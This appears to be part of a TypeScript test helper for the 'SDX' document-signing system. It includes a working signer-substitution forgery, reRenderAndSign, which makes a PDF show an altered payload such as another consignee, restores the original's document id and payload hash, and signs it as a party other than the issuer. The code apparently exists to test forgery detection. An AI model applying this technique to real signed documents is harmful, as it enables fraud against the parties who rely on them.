  return signUpdate(pdf, signer, { ...options, field: { create: `${reserved}-${fields(pdf).length + 1}`, rect: box, page: 'last' }, lines });
}

// signatureBoxes of src/adapters/pdf/render/page-geometry.ts, as rects.
export const ISSUER_BOX: Rect = [42, 52, 42 + (595.28 - 84 - 18) / 2, 110];
export const COUNTER_BOX: Rect = [42 + (595.28 - 84 - 18) / 2 + 18, 52, 595.28 - 42, 110];

/** A band across the upper body of an A4 page, where SDX draws the parties (consignee, haulier, damages). */
export const BODY_BAND: Rect = [42, 420, 553, 700];

// --- signer substitution ---------------------------------------------------------------------

let renderer: Promise<DocumentRenderer> | undefined;

export interface ReRender {
  kind: PdfContent['kind'];
  /** The payload as the forger wants it SHOWN (e.g. another consignee). */
  payload: unknown;
  /** Who signs the forgery: a party with a valid certificate, usually not the issuer. */
  signer: PartySigner;
  gateRecord?: PdfContent['gateRecord'];
  issuerName?: string;
  verifyUrl?: string;
}

/**
 * Signer substitution: renders a new first revision that SHOWS `payload`, then, before signing,
 * puts back the original's /Info (SDXDocumentId, SDXPayloadSHA256, ...) and, when both have one, the
 * original's embedded payload stream, and signs it as `signer` in the issuer's place. Nothing but
 * what is shown and who signed differs from the document SDX issued.
 */
export async function reRenderAndSign(original: Uint8Array, forgery: ReRender): Promise<Uint8Array> {
  const info = infoOf(original);
  const documentId = info['SDXDocumentId'];
  if (!documentId || !info['SDXPayloadSHA256']) throw new Error('the original names no SDX document');
  renderer ??= loadRenderAssets('templates').then((assets) => DocumentRenderer.create(assets));
  // The renderer embeds the forged payload under its own hash; the original's /Info and embedded
  // payload then replace what it wrote, so the forgery shows the original id and hash.
  const input = {
    kind: forgery.kind,
    payload: forgery.payload,
    documentId,
    version: Number(info['SDXVersion'] ?? '1'),
    payloadHash: canonicalHash(forgery.payload),
    issuerPartyId: info['SDXIssuer'] ?? 'unknown-issuer',
    verifyUrl: forgery.verifyUrl ?? `http://sdx.test/verify/${documentId}`,
    issuedAt: new Date().toISOString(),
    issuerName: forgery.issuerName ?? info['Author'] ?? 'Issuer',
    ...(forgery.gateRecord ? { gateRecord: forgery.gateRecord } : {}),
  } as PdfContent;
  const rendered = await (await renderer).render(input);

  const revision = new Revision(rendered);
  const originalView = latest(firstRevision(original));
  const originalInfo = originalView.dict(originalView.trailer.get('Info'));
  const infoRef = revision.view.trailer.get('Info');
  if (originalInfo && infoRef?.kind === 'ref') revision.set(infoRef.num, dictText(originalInfo));
  const ours = embeddedPayloadStream(rendered);
  const theirs = embeddedPayloadStream(original);
  if (ours !== undefined && theirs !== undefined) revision.set(ours, pdfText(objectOf(original, theirs)));
  const prepared = revision.objects.size > 0 ? revision.bytes() : rendered;
  return sdxStyleSign(prepared, forgery.signer, { reserved: 'sdx-issuer' });
}

/** The bytes up to and including the first %%EOF (the unsigned first revision). */
export function firstRevision(pdf: Uint8Array): Uint8Array {
  const at = Buffer.from(pdf).indexOf('%%EOF');
  if (at < 0) throw new Error('no %%EOF');
  let end = at + 5;
  if (pdf[end] === 0x0d) end++;
  if (pdf[end] === 0x0a) end++;
  return pdf.subarray(0, end);
}

/** The bytes of revision `index` (counted by %%EOF from 0), e.g. the PDF just after signature 1. */
export function revisionBytes(pdf: Uint8Array, index: number): Uint8Array {
  const text = Buffer.from(pdf).toString('latin1');
  let at = -1;
  for (let i = 0; i <= index; i++) {
    at = text.indexOf('%%EOF', at + 1);
    if (at < 0) throw new Error(`no revision ${index}`);
  }
  let end = at + 5;
  if (pdf[end] === 0x0d) end++;
  if (pdf[end] === 0x0a) end++;
  return pdf.subarray(0, end);
}

/** Revisions in the file (%%EOF markers). */
export function revisionCount(pdf: Uint8Array): number {
  return Buffer.from(pdf).toString('latin1').split('%%EOF').length - 1;
}
